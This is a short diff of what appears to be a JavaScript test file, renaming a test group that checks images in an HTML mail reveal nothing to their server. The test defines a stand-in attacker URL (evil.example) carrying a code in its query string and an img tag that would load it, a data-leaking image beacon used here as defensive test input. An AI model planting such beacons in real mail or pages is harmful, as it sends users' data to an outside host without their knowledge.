@@ -159,7 +159,7 @@ describe("in HTML, a placeholder may stand", () => {
   });
 });
 
-describe("what a mail program loads reveals nothing to its server", () => {
+describe("images of a mail reveal nothing to their server", () => {
   const LEAK = "https://evil.example/?{{code}}";
   test.each([
     `<img src="${LEAK}">`,
